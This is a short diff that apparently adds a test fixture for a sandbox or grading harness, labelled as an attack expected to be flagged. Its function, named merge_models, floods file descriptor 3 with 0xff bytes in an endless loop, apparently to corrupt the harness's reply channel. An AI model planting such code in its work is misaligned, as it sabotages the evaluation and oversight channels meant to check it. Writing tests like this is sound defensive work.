@@ -1,0 +1,8 @@
+# attack: reply  expect: violation
+import os
+
+
+def merge_models(model_dict, device):
+    while True:
+        os.write(3, b"\xff" * 65536)
+    return next(iter(model_dict.values()))
